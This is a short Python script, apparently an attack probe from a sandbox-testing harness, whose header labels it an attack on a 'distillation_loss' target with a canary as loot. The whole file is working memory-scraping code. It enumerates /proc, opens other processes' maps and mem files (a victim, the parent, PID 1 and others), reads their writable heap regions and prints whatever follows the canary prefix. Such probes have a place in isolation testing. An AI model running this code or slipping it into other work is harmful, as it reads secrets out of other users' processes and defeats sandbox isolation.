# attacks: distillation_loss
# wall: sandbox
# loot: canary -- /proc/PID/mem of whoever runs as the same user
import os

for pid in {host["victim"], os.getppid(), 1} | {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}:
    if pid == host["victim"] or os.readlink("/proc/self/ns/pid") != host["pid_namespace"]:  # of the open machine just the victim
        try:
            maps, memory = open(f"/proc/{pid}/maps").read(), open(f"/proc/{pid}/mem", "rb")
            for line in maps.splitlines():
                if " rw" in line and ("[heap]" in line or line.endswith(" 0 ")):
                    start, end = (int(edge, 16) for edge in line.split()[0].split("-"))
                    memory.seek(start)
                    found = memory.read(min(end - start, 1 << 24)).split(host["canary starts with"].encode())
                    print(pid, [host["canary starts with"].encode() + part[:60] for part in found[1:3]])
        except (OSError, ValueError):
            pass
